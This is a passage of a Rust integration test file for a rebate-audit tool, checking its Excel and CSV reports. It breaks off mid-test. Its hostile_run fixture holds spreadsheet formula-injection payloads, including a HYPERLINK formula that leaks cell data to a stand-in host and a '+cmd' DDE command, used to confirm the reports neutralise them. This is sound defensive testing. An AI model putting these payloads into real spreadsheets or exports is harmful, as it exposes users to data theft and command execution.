//! `report.xlsx` end to end: the real binary on real files, the workbook read back with
//! calamine (and `findings.csv`/`findings.xlsx` where they share its rules: the `change`
//! column of a baseline run, money beyond 15 digits). The standard fixture is contract
//! `C1` over January 2025 (one tier of 20%, due 30 days after the period): a January bill
//! of 10,000.00 earns 2,000.00, due on 2025-03-02 (see tests/it/cli.rs).

use crate::common::*;
use calamine::{Data, Reader};
use chrono::NaiveDate;
use serde_json::Value;
use std::collections::BTreeMap;
use std::path::Path;

/// The sheets of `report.xlsx`, in order.
const SHEETS: [&str; 7] = [
    "Summary",
    "Findings",
    "Installments",
    "Payouts",
    "Allocations",
    "Rejected rows",
    "Controls",
];

/// A workbook's sheets, each as rows of cells (row 0 is the first row of the sheet).
fn read_sheets(path: &Path) -> (Vec<String>, BTreeMap<String, Vec<Vec<Data>>>) {
    let mut workbook = calamine::open_workbook_auto(path)
        .unwrap_or_else(|error| panic!("{} does not open: {error}", path.display()));
    let names = workbook.sheet_names();
    let mut sheets = BTreeMap::new();
    for name in &names {
        let range = workbook.worksheet_range(name).unwrap();
        assert_eq!(
            range.start().unwrap_or((0, 0)),
            (0, 0),
            "{name} starts at A1"
        );
        sheets.insert(
            name.clone(),
            range.rows().map(<[Data]>::to_vec).collect::<Vec<_>>(),
        );
    }
    (names, sheets)
}

/// Formula cells in every sheet of a workbook.
fn formula_cells(path: &Path) -> Vec<(String, String)> {
    let mut workbook = calamine::open_workbook_auto(path).unwrap();
    let mut found = Vec::new();
    for name in workbook.sheet_names() {
        let formulas = workbook.worksheet_formula(&name).unwrap();
        found.extend(
            formulas
                .used_cells()
                .filter(|(_, _, formula)| !formula.is_empty())
                .map(|(_, _, formula)| (name.clone(), formula.clone())),
        );
    }
    found
}

/// The first row's texts, without the empty cells a wider sheet pads it with.
fn header(rows: &[Vec<Data>]) -> Vec<String> {
    let mut names: Vec<String> = rows[0].iter().map(ToString::to_string).collect();
    while names.last().is_some_and(String::is_empty) {
        names.pop();
    }
    names
}

/// The column of `name` in a header; panics when missing.
fn column(rows: &[Vec<Data>], name: &str) -> usize {
    header(rows)
        .iter()
        .position(|column| column == name)
        .unwrap_or_else(|| panic!("no column `{name}` in {:?}", header(rows)))
}

/// The serial Excel stores for a day (1900 date system, days after 1900-03-01).
fn serial(day: &str) -> f64 {
    let day = NaiveDate::parse_from_str(day, "%Y-%m-%d").unwrap();
    let epoch = NaiveDate::from_ymd_opt(1899, 12, 30).unwrap();
    #[allow(clippy::cast_precision_loss)]
    let days = (day - epoch).num_days() as f64;
    days
}

fn assert_date(cell: &Data, day: &str) {
    match cell {
        Data::DateTime(date) => assert_eq!(date.as_f64(), serial(day), "{cell:?} is {day}"),
        other => panic!("expected the date {day}, found {other:?}"),
    }
}

fn assert_money(cell: &Data, json_money: &Value) {
    let expected: f64 = json_money.as_str().unwrap().parse().unwrap();
    assert_eq!(
        cell,
        &Data::Float(expected),
        "money cell vs JSON {json_money}"
    );
}

/// Whether a spreadsheet could take this text for a formula: the rule the reports apply.
fn could_run(text: &str) -> bool {
    text.starts_with(['\t', '\r', '\n', '\0'])
        || text
            .chars()
            .find(|character| !(character.is_whitespace() || matches!(character, '"' | '＂')))
            .is_some_and(|character| "=+-@＝＋－＠".contains(character))
}

/// Every string cell of every sheet is inert.
fn assert_no_text_could_run(path: &Path) {
    let (_, sheets) = read_sheets(path);
    for (name, rows) in &sheets {
        for (index, row) in rows.iter().enumerate() {
            for cell in row {
                if let Data::String(text) = cell {
                    assert!(
                        !could_run(text),
                        "{}:{name}:{}: text `{text}` could run as a formula",
                        path.display(),
                        index + 1
                    );
                }
            }
        }
    }
}

/// The audit most tests read: `C1` underpaid by 100.00 (P1 pays 1,900.00 with an
/// invoice), a payout for unknown contract `C9` (unmatched), a billing row whose amount
/// is not money (rejected), and spend on account `Z9` no contract covers.
fn varied_run(fixture: &Fixture, out: &str, threads: &str) -> Run {
    let contracts = Book::standard().write_csv_folder(fixture.dir.path(), "contracts");
    let billing = fixture.write(
        "billing.csv",
        billing_csv(&[
            ("A1", "2025-01", "ECS", "10000.00", "CNY"),
            ("A1", "2025-01", "ECS", "12,34.5x", "CNY"),
            ("Z9", "2025-01", "OSS", "12.00", "CNY"),
        ]),
    );
    let payouts = fixture.write(
        "payouts.csv",
        payouts_csv(
            &[
                "payout_id",
                "contract_id",
                "paid_on",
                "amount",
                "currency",
                "period",
                "invoice_no",
                "invoice_date",
                "invoice_amount",
                "invoice_tax_rate",
            ],
            &[
                &[
                    "P1",
                    "C1",
                    "2025-02-15",
                    "1900.00",
                    "CNY",
                    "2025-01",
                    "INV-001",
                    "2025-02-10",
                    "1900.00",
                    "6%",
                ],
                &["P2", "C9", "2025-02-20", "5.00", "", "", "", "", "", ""],
            ],
        ),
    );
    let run = fixture.audit_into(
        out,
        &contracts,
        &billing,
        &payouts,
        "2025-04-01",
        &[&"--threads", &threads],
    );
    run.expect_status(1);
    run
}

#[test]
fn report_xlsx_has_every_sheet_with_its_header_and_the_jsons_counts() {
    let fixture = Fixture::new();
    let run = varied_run(&fixture, "out", "2");
    let json = run.json();
    let (names, sheets) = read_sheets(&run.out.join("report.xlsx"));
    assert_eq!(names, SHEETS.map(String::from).to_vec());

    let headers: [(&str, &[&str]); 7] = [
        ("Summary", &["item", "value", "amount"]),
        (
            "Findings",
            &[
                "id",
                "type",
                "severity",
                "contract_id",
                "period_start",
                "period_end",
                "installment",
                "payout_id",
                "reason",
                "expected",
                "paid",
                "difference",
                "due_on",
                "paid_on",
                "days_late",
                "interest",
                "amount",
                "detail",
                "location",
                "formula",
                // issue 19: the claim's expiry date, last of findings.csv's columns
                "expires_on",
                "allocations",
                "checks",
                "facts",
                "source_rows",
            ],
        ),
        (
            "Installments",
            &[
                "contract_id",
                "period_start",
                "period_end",
                "installment",
                "trigger",
                "weighted_base",
                "expected",
                "due_on",
                "paid",
                "status",
            ],
        ),
        (
            "Payouts",
            &[
                "payout_id",
                "contract_id",
                "paid_on",
                "amount",
                "currency",
                "kind",
                "period",
                "installment",
                "invoice_no",
                "invoice_date",
                "invoice_amount",
                "invoice_tax_rate",
                "invoice_type",
                "invoice_issuer",
                "source",
            ],
        ),
        (
            "Allocations",
            &[
                "payout_id",
                "paid_on",
                "contract_id",
                "period_start",
                "period_end",
                "installment",
                "amount",
                "excess",
                "source",
            ],
        ),
        (
            "Rejected rows",
            &[
                "id", "file", "sheet", "row", "column", "reason", "amount", "detail",
            ],
        ),
        (
            "Controls",
            &[
                "role",
                "file",
                "sheet",
                "format",
                "rows_read",
                "amount_read",
                "rows_attributed_or_used",
                "amount_attributed_or_used",
                "rows_excluded_currency_mismatch",
                "amount_excluded_currency_mismatch",
                "rows_excluded_uncovered",
                "amount_excluded_uncovered",
                "rows_rejected",
                "amount_rejected",
                "blank_rows",
                "rows_above_header",
                "totals_rows",
                "totals_rows_agree",
                "totals_check",
                "balanced",
            ],
        ),
    ];
    for (name, expected) in headers {
        assert_eq!(header(&sheets[name]), expected.to_vec(), "{name} header");
    }

    // One row per item, as many as findings.json counts.
    let data_rows = |name: &str| sheets[name].len() - 1;
    let findings = json["findings"].as_array().unwrap();
    assert!(findings.len() >= 4, "{findings:#?}");
    assert_eq!(data_rows("Findings"), findings.len());
    assert_eq!(
        data_rows("Installments"),
        json["expected"].as_array().unwrap().len()
    );
    let payouts_used: u64 = json["controls"]["payouts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|control| control["used"]["rows"].as_u64().unwrap())
        .sum();
    assert_eq!(data_rows("Payouts"), usize::try_from(payouts_used).unwrap());
    assert_eq!(data_rows("Payouts"), 2);
    let rejected = findings
        .iter()
        .filter(|finding| finding["type"] == "rejected_row")
        .count();
    assert_eq!(rejected, 1);
    assert_eq!(data_rows("Rejected rows"), rejected);
    assert_eq!(
        data_rows("Controls"),
        json["controls"]["billing"].as_array().unwrap().len()
            + json["controls"]["payouts"].as_array().unwrap().len()
    );
    // P1 went to C1's January installment; P2 named no known contract.
    assert_eq!(data_rows("Allocations"), 1);

    // Findings rows are in findings.json's order, with the same ids and types.
    let rows = &sheets["Findings"];
    for (row, finding) in rows[1..].iter().zip(findings) {
        assert_eq!(row[column(rows, "id")].to_string(), finding["id"]);
        assert_eq!(row[column(rows, "type")].to_string(), finding["type"]);
        assert_eq!(row[column(rows, "detail")].to_string(), finding["detail"]);
    }

    // Summary: the headline numbers.
    let summary = &sheets["Summary"];
    let line = |item: &str| {
        summary
            .iter()
            .find(|row| row[0] == Data::String(item.into()))
            .unwrap_or_else(|| panic!("no summary line `{item}`: {summary:?}"))
            .clone()
    };
    assert_date(&line("as of")[1], "2025-04-01");
    assert!(line("tool")[1].to_string().starts_with("rebate-audit "));
    assert_eq!(line("contracts")[1], Data::Float(1.0));
    assert_eq!(line("installments expected")[1], Data::Float(1.0));
    assert_money(
        &line("installments expected")[2],
        &json["totals"]["expected"],
    );
    assert_money(
        &line("paid (allocated to installments)")[2],
        &json["totals"]["paid"],
    );
    assert_money(
        &line("shortfall (unpaid and underpaid)")[2],
        &json["totals"]["shortfall"],
    );
    assert_money(&line("late interest")[2], &json["totals"]["interest"]);
    #[allow(clippy::cast_precision_loss)]
    let finding_count = findings.len() as f64;
    assert_eq!(line("findings")[1], Data::Float(finding_count));
    assert_eq!(line("findings: error")[1], Data::Float(2.0));
    assert_eq!(line("findings: underpaid")[1], Data::Float(1.0));
    assert_eq!(line("findings: underpaid")[2], Data::Float(100.0));
    let per_contract = summary
        .iter()
        .position(|row| row[0] == Data::String("contract_id".into()))
        .expect("per-contract table");
    let c1 = &summary[per_contract + 1];
    assert_eq!(c1[0], Data::String("C1".into()));
    assert_eq!(c1[4], Data::Float(2000.0), "expected");
    assert_eq!(c1[6], Data::Float(1900.0), "paid");
    assert_eq!(c1[7], Data::Float(100.0), "shortfall");
}

#[test]
fn money_cells_are_numbers_and_date_cells_are_dates() {
    let fixture = Fixture::new();
    let run = varied_run(&fixture, "out", "2");
    let json = run.json();
    let (_, sheets) = read_sheets(&run.out.join("report.xlsx"));

    let rows = &sheets["Installments"];
    let record = &json["expected"][0];
    let row = &rows[1];
    assert_eq!(row[column(rows, "contract_id")], Data::String("C1".into()));
    assert_date(&row[column(rows, "period_start")], "2025-01-01");
    assert_date(&row[column(rows, "period_end")], "2025-01-31");
    assert_eq!(row[column(rows, "installment")], Data::Float(1.0));
    assert_money(
        &row[column(rows, "weighted_base")],
        &record["weighted_base"],
    );
    assert_eq!(row[column(rows, "weighted_base")], Data::Float(10000.0));
    assert_money(&row[column(rows, "expected")], &record["expected"]);
    assert_eq!(row[column(rows, "expected")], Data::Float(2000.0));
    assert_date(&row[column(rows, "due_on")], "2025-03-02");
    assert_eq!(row[column(rows, "paid")], Data::Float(1900.0));
    assert_eq!(
        row[column(rows, "status")],
        Data::String("underpaid".into())
    );

    let rows = &sheets["Findings"];
    let underpaid = only(&run, "underpaid");
    let row = rows[1..]
        .iter()
        .find(|row| row[column(rows, "type")] == Data::String("underpaid".into()))
        .unwrap();
    assert_money(&row[column(rows, "expected")], &underpaid["expected"]);
    assert_money(&row[column(rows, "paid")], &underpaid["paid"]);
    assert_eq!(row[column(rows, "difference")], Data::Float(-100.0));
    assert_money(&row[column(rows, "interest")], &underpaid["interest"]);
    assert_eq!(row[column(rows, "days_late")], Data::Float(30.0));
    assert_date(&row[column(rows, "period_start")], "2025-01-01");
    assert_date(&row[column(rows, "due_on")], "2025-03-02");
    assert_date(&row[column(rows, "paid_on")], "2025-02-15");
    assert_eq!(
        row[column(rows, "allocations")],
        Data::String("P1 1,900.00 on 2025-02-15".into())
    );

    let rows = &sheets["Payouts"];
    let p1 = &rows[1];
    assert_eq!(p1[column(rows, "payout_id")], Data::String("P1".into()));
    assert_date(&p1[column(rows, "paid_on")], "2025-02-15");
    assert_eq!(p1[column(rows, "amount")], Data::Float(1900.0));
    assert_eq!(p1[column(rows, "currency")], Data::String("CNY".into()));
    assert_eq!(p1[column(rows, "period")], Data::String("2025-01".into()));
    assert_eq!(
        p1[column(rows, "invoice_no")],
        Data::String("INV-001".into())
    );
    assert_date(&p1[column(rows, "invoice_date")], "2025-02-10");
    assert_eq!(p1[column(rows, "invoice_amount")], Data::Float(1900.0));
    assert_eq!(p1[column(rows, "invoice_tax_rate")], Data::Float(0.06));
    assert!(
        p1[column(rows, "source")]
            .to_string()
            .ends_with("payouts.csv:2"),
        "{:?}",
        p1[column(rows, "source")]
    );
    assert_eq!(
        rows[2][column(rows, "contract_id")],
        Data::String("C9".into())
    );
    assert_eq!(rows[2][column(rows, "amount")], Data::Float(5.0));

    let rows = &sheets["Allocations"];
    let allocation = &rows[1];
    assert_eq!(allocation[0], Data::String("P1".into()));
    assert_date(&allocation[column(rows, "paid_on")], "2025-02-15");
    assert_eq!(
        allocation[column(rows, "contract_id")],
        Data::String("C1".into())
    );
    assert_date(&allocation[column(rows, "period_start")], "2025-01-01");
    assert_eq!(allocation[column(rows, "amount")], Data::Float(1900.0));
    assert_eq!(allocation[column(rows, "excess")], Data::Bool(false));

    let rows = &sheets["Rejected rows"];
    let rejected = only(&run, "rejected_row");
    let row = &rows[1];
    assert_eq!(row[column(rows, "id")].to_string(), rejected["id"]);
    let location = &rejected["evidence"]["location"];
    assert_eq!(row[column(rows, "file")].to_string(), location["file"]);
    assert_eq!(row[column(rows, "sheet")], Data::Empty);
    assert_eq!(row[column(rows, "row")], Data::Float(3.0));
    assert_eq!(
        row[column(rows, "column")],
        Data::String("net_amount".into())
    );
    assert_eq!(row[column(rows, "detail")].to_string(), rejected["detail"]);

    let rows = &sheets["Controls"];
    let billing = &json["controls"]["billing"][0];
    let row = &rows[1];
    assert_eq!(row[column(rows, "role")], Data::String("billing".into()));
    assert_eq!(row[column(rows, "file")].to_string(), billing["file"]);
    assert_eq!(row[column(rows, "format")], Data::String("generic".into()));
    assert_eq!(row[column(rows, "rows_read")], Data::Float(3.0));
    assert_money(
        &row[column(rows, "amount_read")],
        &billing["read"]["amount"],
    );
    assert_eq!(
        row[column(rows, "rows_attributed_or_used")],
        Data::Float(1.0)
    );
    assert_eq!(
        row[column(rows, "amount_attributed_or_used")],
        Data::Float(10000.0)
    );
    assert_eq!(
        row[column(rows, "rows_excluded_uncovered")],
        Data::Float(1.0)
    );
    assert_eq!(
        row[column(rows, "amount_excluded_uncovered")],
        Data::Float(12.0)
    );
    assert_eq!(row[column(rows, "rows_rejected")], Data::Float(1.0));
    assert_eq!(row[column(rows, "balanced")], Data::Bool(true));
    let ledger = &rows[2];
    assert_eq!(ledger[column(rows, "role")], Data::String("payouts".into()));
    assert_eq!(ledger[column(rows, "rows_read")], Data::Float(2.0));
    assert_eq!(ledger[column(rows, "amount_read")], Data::Float(1905.0));
    assert_eq!(
        ledger[column(rows, "rows_attributed_or_used")],
        Data::Float(2.0)
    );
    assert_eq!(ledger[column(rows, "balanced")], Data::Bool(true));
}

#[test]
fn no_spreadsheet_report_holds_a_formula_cell() {
    let fixture = Fixture::new();
    let run = hostile_run(&fixture);
    for name in ["report.xlsx", "findings.xlsx"] {
        let path = run.out.join(name);
        assert_eq!(formula_cells(&path), Vec::new(), "formula cells in {name}");
    }
}

/// Payloads of research row R1 (formula injection), each in a place that reaches a report.
const EVIL_CONTRACTS: [&str; 5] = [
    "=HYPERLINK(\"http://x/?\"&A1)",
    "@SUM(1+1)",
    "-2+3",
    "＝1+1",
    "\"=1+1\"",
];
const EVIL_PAYOUTS: [&str; 4] = ["+cmd|' /C calc'!A0", "=1+1", "a,=1+1", "-P"];
const EVIL_INVOICES: [&str; 4] = ["=HYPERLINK(\"http://x\")", "@INV", "+1", "a;=1+1"];
const EVIL_PRODUCT: &str = "@SUM(1+1)";
/// A payout for a contract nobody has: it becomes an `unmatched_payout` finding.
const EVIL_UNMATCHED: &str = "@P9";

/// Five contracts named by payloads, each billed and paid by a payload-named payout with a
/// payload invoice number; one bill line names a payload product, and a payout names a
/// payload contract nobody has.
fn hostile_run(fixture: &Fixture) -> Run {
    let mut book = Book::default();
    let mut lines = Vec::new();
    for (index, id) in EVIL_CONTRACTS.iter().enumerate() {
        let account = format!("A{index}");
        book = book
            .contract(contract(id).set("accounts", account.as_str()))
            .tier(id, "0", "", "20%");
        lines.push((account, "ECS".to_string()));
    }
    lines.push(("A0".to_string(), EVIL_PRODUCT.to_string()));
    let contracts = book.write_xlsx(fixture.dir.path(), "book.xlsx");
    let billing_lines: Vec<(&str, &str, &str, &str, &str)> = lines
        .iter()
        .map(|(account, product)| {
            (
                account.as_str(),
                "2025-01",
                product.as_str(),
                "10000.00",
                "CNY",
            )
        })
        .collect();
    let billing = fixture.write("billing.csv", billing_csv(&billing_lines));
    let rows: Vec<Vec<&str>> = EVIL_PAYOUTS
        .iter()
        .zip(EVIL_CONTRACTS)
        .zip(EVIL_INVOICES)
        .map(|((payout, contract), invoice)| vec![*payout, contract, "2025-02-15", "5.00", invoice])
        .chain([vec![EVIL_UNMATCHED, "+9", "2025-02-15", "1.00", "=9"]])
        .collect();
    let rows: Vec<&[&str]> = rows.iter().map(Vec::as_slice).collect();
    let payouts = fixture.write(
        "payouts.csv",
        payouts_csv(
            &[
                "payout_id",
                "contract_id",
                "paid_on",
                "amount",
                "invoice_no",
            ],
            &rows,
        ),
    );
    let run = fixture.audit(&contracts, &billing, &payouts, "2025-04-01", &[]);
    run.expect_status(1);
    run
}

#[test]
fn injection_payloads_come_out_neutralised_in_report_xlsx_findings_xlsx_and_findings_csv() {
    let fixture = Fixture::new();
    let run = hostile_run(&fixture);
    let json = run.json();
    // The inputs arrived intact: the JSON keeps the raw values.
    let ids: Vec<&str> = json["expected"]
        .as_array()
        .unwrap()
        .iter()
        .map(|record| record["contract_id"].as_str().unwrap())
        .collect();
    for id in EVIL_CONTRACTS {
        assert!(ids.contains(&id), "contract {id:?} missing from {ids:?}");
    }
    let neutral = |payload: &str| Data::String(format!("'{payload}"));

    // report.xlsx
    let path = run.out.join("report.xlsx");
    let (_, sheets) = read_sheets(&path);
    let rows = &sheets["Installments"];
    let contract_cells: Vec<&Data> = rows[1..].iter().map(|row| &row[0]).collect();
    for id in EVIL_CONTRACTS {
        assert!(
            contract_cells.contains(&&neutral(id)),
            "{id:?}: {contract_cells:?}"
        );
    }
    let rows = &sheets["Payouts"];
    let (payout, invoice) = (column(rows, "payout_id"), column(rows, "invoice_no"));
    for (evil_payout, evil_invoice) in EVIL_PAYOUTS.iter().zip(EVIL_INVOICES) {
        let row = rows[1..]
            .iter()
            .find(|row| row[payout].to_string().ends_with(evil_payout))
            .unwrap_or_else(|| panic!("no payout {evil_payout:?} in {rows:?}"));
        if evil_payout.starts_with('a') {
            assert_eq!(row[payout], Data::String((*evil_payout).into()));
        } else {
            assert_eq!(row[payout], neutral(evil_payout));
        }
        if evil_invoice.starts_with('a') {
            assert_eq!(row[invoice], Data::String(evil_invoice.into()));
        } else {
            assert_eq!(row[invoice], neutral(evil_invoice));
        }
    }
    let unmatched = rows[1..]
        .iter()
        .find(|row| row[payout] == neutral(EVIL_UNMATCHED))
        .unwrap();
    assert_eq!(unmatched[column(rows, "contract_id")], neutral("+9"));
    let rows = &sheets["Summary"];
    assert!(
        rows.iter().any(|row| row[0] == neutral(EVIL_CONTRACTS[0])),
        "the per-contract table names the contract neutralised"
    );
    // The product is only ever inside a sentence or the facts, never a cell's start.
    let rows = &sheets["Findings"];
    let unknown = rows[1..]
        .iter()
        .find(|row| row[column(rows, "type")] == Data::String("unknown_product".into()))
        .expect("an unknown_product finding");
    assert!(
        unknown[column(rows, "facts")]
            .to_string()
            .contains(&format!("product: {EVIL_PRODUCT}")),
        "{unknown:?}"
    );
    assert_no_text_could_run(&path);

    // findings.xlsx: the same neutraliser.
    let path = run.out.join("findings.xlsx");
    let (_, sheets) = read_sheets(&path);
    let rows = &sheets["findings"];
    let contracts: Vec<&Data> = rows[1..]
        .iter()
        .map(|row| &row[column(rows, "contract_id")])
        .collect();
    for id in EVIL_CONTRACTS {
        assert!(contracts.contains(&&neutral(id)), "{id:?}: {contracts:?}");
    }
    let payouts: Vec<&Data> = rows[1..]
        .iter()
        .map(|row| &row[column(rows, "payout_id")])
        .collect();
    assert!(payouts.contains(&&neutral(EVIL_UNMATCHED)), "{payouts:?}");
    assert_no_text_could_run(&path);

    // findings.csv: neutralised, and every text field quoted so a separator opens no cell.
    let bytes = run.read("findings.csv");
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let at = |name: &str| headers.iter().position(|column| column == name).unwrap();
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), json["findings"].as_array().unwrap().len());
    for id in EVIL_CONTRACTS {
        let wanted = format!("'{id}");
        assert!(
            records
                .iter()
                .any(|record| record[at("contract_id")] == wanted),
            "{id:?} in findings.csv"
        );
    }
    assert!(
        records
            .iter()
            .any(|record| record[at("payout_id")] == format!("'{EVIL_UNMATCHED}"))
    );
    for record in &records {
        for field in record {
            // Money such as -2000.00 is a number, never prefixed (research R1b).
            assert!(
                field.parse::<f64>().is_ok() || !could_run(field),
                "`{field}` could run: {record:?}"
            );
        }
    }
    for line in text.lines().skip(1) {
        assert!(line.starts_with('"'), "text fields are quoted: {line}");
    }
}

#[test]
fn report_xlsx_is_byte_identical_across_runs_and_thread_counts() {
    let fixture = Fixture::new();
    let one = varied_run(&fixture, "out-1", "1");
    // A second later, so a clock-stamped creation date would differ.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let two = varied_run(&fixture, "out-2", "2");
    let again = varied_run(&fixture, "out-again", "2");
    let reference = one.read("report.xlsx");
    assert!(reference.starts_with(b"PK"), "a zip");
    assert_eq!(reference, two.read("report.xlsx"), "1 vs 2 threads");
    assert_eq!(reference, again.read("report.xlsx"), "two runs");
}

#[test]
fn an_amount_beyond_15_significant_digits_is_exact_text_and_noted() {
    let fixture = Fixture::new();
    // 123,456,789,012,345.60 has 16 significant digits; so has its 20%,
    // 24,691,357,802,469.12.
    let (contracts, billing, payouts) = fixture.standard_inputs(
        &[("A1", "2025-01", "ECS", "123456789012345.60", "CNY")],
        &[("-P1", "C1", "2025-02-15", "1000.00")],
    );
    let run = fixture.audit(&contracts, &billing, &payouts, "2025-04-01", &[]);
    run.expect_status(1);
    let record = &run.installments()[0];
    assert_eq!(record["weighted_base"], "123456789012345.60");
    assert_eq!(record["expected"], "24691357802469.12");
    let (_, sheets) = read_sheets(&run.out.join("report.xlsx"));
    let rows = &sheets["Installments"];
    let row = &rows[1];
    assert_eq!(
        row[column(rows, "weighted_base")],
        Data::String("123456789012345.60".into())
    );
    assert_eq!(
        row[column(rows, "expected")],
        Data::String("24691357802469.12".into())
    );
    // 1,000.00 is exact: still a number.
    assert_eq!(row[column(rows, "paid")], Data::Float(1000.0));
    // A negative amount beyond 15 digits is its exact text: our own digits, so no `'`
    // (research R1b) — the underpaid finding's difference, 1,000.00 − 24,691,357,802,469.12.
    let underpaid = only(&run, "underpaid");
    assert_eq!(underpaid["difference"], "-24691357801469.12");
    let rows = &sheets["Findings"];
    let row = rows[1..]
        .iter()
        .find(|row| row[column(rows, "type")] == Data::String("underpaid".into()))
        .unwrap();
    assert_eq!(
        row[column(rows, "difference")],
        Data::String("-24691357801469.12".into())
    );
    assert_eq!(
        row[column(rows, "expected")],
        Data::String("24691357802469.12".into())
    );
    // The neutraliser still guards every text from the inputs in the same workbook.
    let rows = &sheets["Payouts"];
    assert_eq!(
        rows[1][column(rows, "payout_id")],
        Data::String("'-P1".into())
    );
    // findings.xlsx writes money by the same rule.
    let (_, table) = read_sheets(&run.out.join("findings.xlsx"));
    let rows = &table["findings"];
    let row = rows[1..]
        .iter()
        .find(|row| row[column(rows, "type")] == Data::String("underpaid".into()))
        .unwrap();
    assert_eq!(
        row[column(rows, "difference")],
        Data::String("-24691357801469.12".into())
    );
    assert_eq!(row[column(rows, "paid")], Data::Float(1000.0));
    let summary = &sheets["Summary"];
    let note = summary
        .iter()
        .find(|row| row[0].to_string().starts_with("amounts written as text"))
        .unwrap_or_else(|| panic!("no note line: {summary:?}"));
    assert!(
        matches!(note[1], Data::Float(count) if count >= 2.0),
        "{note:?}"
    );
}

// ---------------------------------------------------------------------------------------
// Baselines: `change` in findings.csv, findings.xlsx and report.xlsx; `Resolved` sheet
// ---------------------------------------------------------------------------------------

/// Night 1: `C1` underpaid by 100.00 (P1 pays 1,900.00), payout P2 names unknown contract
/// `C9`, spend on `Z9` no contract covers. Night 2 (with night 1's findings.json as
/// baseline): P1 pays the full 2,000.00 and P2 is gone (both findings resolved), P3 names
/// unknown contract `C8` (new), `Z9` is still uncovered (persisting).
fn baseline_nights(fixture: &Fixture) -> (Run, Run) {
    let contracts = Book::standard().write_csv_folder(fixture.dir.path(), "contracts");
    let billing = fixture.write(
        "billing.csv",
        billing_csv(&[
            ("A1", "2025-01", "ECS", "10000.00", "CNY"),
            ("Z9", "2025-01", "OSS", "12.00", "CNY"),
        ]),
    );
    let night1_payouts = fixture.write(
        "payouts-1.csv",
        simple_payouts(&[
            ("P1", "C1", "2025-02-15", "1900.00"),
            ("P2", "C9", "2025-02-20", "5.00"),
        ]),
    );
    let night2_payouts = fixture.write(
        "payouts-2.csv",
        simple_payouts(&[
            ("P1", "C1", "2025-02-15", "2000.00"),
            ("P3", "C8", "2025-02-20", "7.00"),
        ]),
    );
    let audit = |out: &str, payouts: &Path, extra: &[&dyn AsRef<std::ffi::OsStr>]| {
        let mut args: Vec<&dyn AsRef<std::ffi::OsStr>> = vec![
            &"run",
            &"--contracts",
            &contracts,
            &"--billing",
            &billing,
            &"--payouts",
            &payouts,
            &"--as-of",
            &"2025-04-01",
        ];
        args.extend_from_slice(extra);
        let run = fixture.run_into(out, &args);
        run.expect_status(1);
        run
    };
    let night1 = audit("night1", &night1_payouts, &[]);
    let baseline = night1.out.join("findings.json");
    let night2 = audit("night2", &night2_payouts, &[&"--baseline", &baseline]);
    (night1, night2)
}

/// findings.csv as its header and records (after the BOM).
fn findings_csv(run: &Run) -> (Vec<String>, Vec<csv::StringRecord>) {
    let bytes = run.read("findings.csv");
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let header = reader.headers().unwrap().iter().map(String::from).collect();
    (header, reader.records().map(Result::unwrap).collect())
}

/// id → `change` of every finding in findings.json.
fn json_changes(run: &Run) -> BTreeMap<String, String> {
    run.findings()
        .iter()
        .map(|finding| {
            (
                finding["id"].as_str().unwrap().to_string(),
                finding["change"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

/// id → `change` of a findings sheet's rows.
fn sheet_changes(rows: &[Vec<Data>]) -> BTreeMap<String, String> {
    let (id, change) = (column(rows, "id"), column(rows, "change"));
    rows[1..]
        .iter()
        .map(|row| (row[id].to_string(), row[change].to_string()))
        .collect()
}

#[test]
fn a_baseline_run_marks_each_finding_new_or_persisting_in_every_table_and_lists_the_resolved() {
    let fixture = Fixture::new();
    let (night1, night2) = baseline_nights(&fixture);

    // Without a baseline the tables are as they always were: no `change`, no Resolved.
    let (header, _) = findings_csv(&night1);
    // 21 columns since issue 19 added `expires_on` last.
    assert_eq!(header.len(), 21, "{header:?}");
    assert!(!header.contains(&"change".to_string()), "{header:?}");
    let (names, sheets) = read_sheets(&night1.out.join("report.xlsx"));
    assert_eq!(names, SHEETS.map(String::from).to_vec());
    assert!(!header_of(&sheets["Findings"]).contains(&"change".to_string()));
    let (_, sheets) = read_sheets(&night1.out.join("findings.xlsx"));
    assert_eq!(header_of(&sheets["findings"]), header);

    // Night 2: one new, one persisting, two resolved.
    let changes = json_changes(&night2);
    let by_type = |kind: &str| {
        night2
            .of_type(kind)
            .iter()
            .map(|finding| finding["id"].as_str().unwrap().to_string())
            .collect::<Vec<_>>()
    };
    let (new_id, persisting_id) = (
        by_type("unmatched_payout")[0].clone(),
        by_type("uncovered_billing")[0].clone(),
    );
    let expected: BTreeMap<String, String> = [
        (new_id.clone(), "new".to_string()),
        (persisting_id.clone(), "persisting".to_string()),
    ]
    .into();
    assert_eq!(changes, expected, "{:#?}", night2.findings());
    let json = night2.json();
    let resolved = json["resolved"].as_array().unwrap();
    let mut resolved_types: Vec<&str> = resolved
        .iter()
        .map(|finding| finding["type"].as_str().unwrap())
        .collect();
    resolved_types.sort_unstable();
    assert_eq!(resolved_types, ["underpaid", "unmatched_payout"]);

    // findings.csv: the columns of before, then `change`, as findings.json says.
    let (header, records) = findings_csv(&night2);
    assert_eq!(header.len(), 22);
    assert_eq!(header.last().map(String::as_str), Some("change"));
    let csv_changes: BTreeMap<String, String> = records
        .iter()
        .map(|record| (record[0].to_string(), record[21].to_string()))
        .collect();
    assert_eq!(csv_changes, changes);

    // findings.xlsx: the same columns and values.
    let (_, sheets) = read_sheets(&night2.out.join("findings.xlsx"));
    assert_eq!(header_of(&sheets["findings"]), header);
    assert_eq!(sheet_changes(&sheets["findings"]), changes);

    // report.xlsx: `change` right after the columns of findings.csv, then the evidence.
    let (names, sheets) = read_sheets(&night2.out.join("report.xlsx"));
    let mut with_resolved: Vec<String> = SHEETS.map(String::from).to_vec();
    with_resolved.insert(2, "Resolved".into());
    assert_eq!(names, with_resolved);
    let rows = &sheets["Findings"];
    assert_eq!(header_of(rows)[..22], header[..]);
    assert_eq!(header_of(rows)[22], "allocations");
    assert_eq!(sheet_changes(rows), changes);

    // The Resolved sheet: the baseline's findings that are gone, as it states them.
    let rows = &sheets["Resolved"];
    assert_eq!(
        header_of(rows),
        [
            "id",
            "type",
            "severity",
            "contract_id",
            "period_start",
            "period_end",
            "installment",
            "payout_id",
            "reason",
            "detail"
        ]
    );
